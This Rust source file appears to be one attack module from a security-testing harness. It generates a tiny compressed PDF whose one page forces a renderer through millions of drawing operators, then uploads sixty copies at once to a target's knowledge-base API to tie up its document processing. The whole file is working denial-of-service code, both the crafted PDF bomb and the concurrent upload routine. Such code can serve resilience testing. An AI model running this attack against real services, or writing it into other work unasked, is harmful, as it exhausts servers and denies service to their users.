//! Files that take long to read: many of one account at once.

use std::sync::Arc;

use lopdf::{Document, Object, Stream, dictionary};
use serde_json::json;
use tokio::task::JoinSet;

use crate::target::{Target, id_of};
use crate::{Future, Strike};

/// Uploads, all at once.
const FILES: usize = 60;
/// How often a file's page draws its form, and the form's length in operators of 14 bytes.
const DRAWN: usize = 9;
const OPERATORS: usize = 1_000_000;

/// Creates a knowledge base; the attack uploads the files to it.
pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
    Box::pin(async move {
        let (_, key) = target.account().await?;
        let mut client = target.attacker(&key);
        let base = id_of(&client.make("POST", "/user/knowledgebases", &json!({ "name": "Slow" })).await?)?;
        let part = |name: &str, value: &str| {
            format!("--b\r\ncontent-disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").into_bytes()
        };
        let file = b"--b\r\ncontent-disposition: form-data; name=\"file\"; filename=\"slow.pdf\"\r\n\r\n";
        let (name, form) = (part("name", "Slow"), part("type", "pdf"));
        let body = Arc::new([&name[..], &form, file, &slow_pdf()?, b"\r\n--b--\r\n"].concat());
        Ok(Box::pin(async move {
            let mut tasks = JoinSet::new();
            for _ in 0..FILES {
                let (mut client, body) = (target.attacker(&key), Arc::clone(&body));
                tasks.spawn(async move {
                    let path = format!("/user/knowledgebases/{base}/documents");
                    client.send("POST", &path, "multipart/form-data; boundary=b", &body).await
                });
            }
            while tasks.join_next().await.is_some() {}
            std::future::pending::<()>().await;
        }) as Strike)
    })
}

/// Returns a PDF of few bytes whose one page takes minutes to draw.
fn slow_pdf() -> Result<Vec<u8>, String> {
    let mut document = Document::with_version("1.5");
    let pages = document.new_object_id();
    let operators = "1 2 3 4 5 6 m ".repeat(OPERATORS).into_bytes();
    let form = document.add_object(Stream::new(dictionary! { "Subtype" => "Form" }, operators));
    let content = document.add_object(Stream::new(dictionary! {}, "/X1 Do ".repeat(DRAWN).into_bytes()));
    let page = document.add_object(dictionary! { "Type" => "Page", "Parent" => pages, "Contents" => content });
    let kids = vec![Object::Reference(page)];
    let resources = dictionary! { "XObject" => dictionary! { "X1" => form } };
    let tree = dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => 1, "Resources" => resources };
    document.objects.insert(pages, tree.into());
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
    document.trailer.set("Root", catalog);
    document.compress();
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).map_err(|error| error.to_string())?;
    Ok(bytes)
}
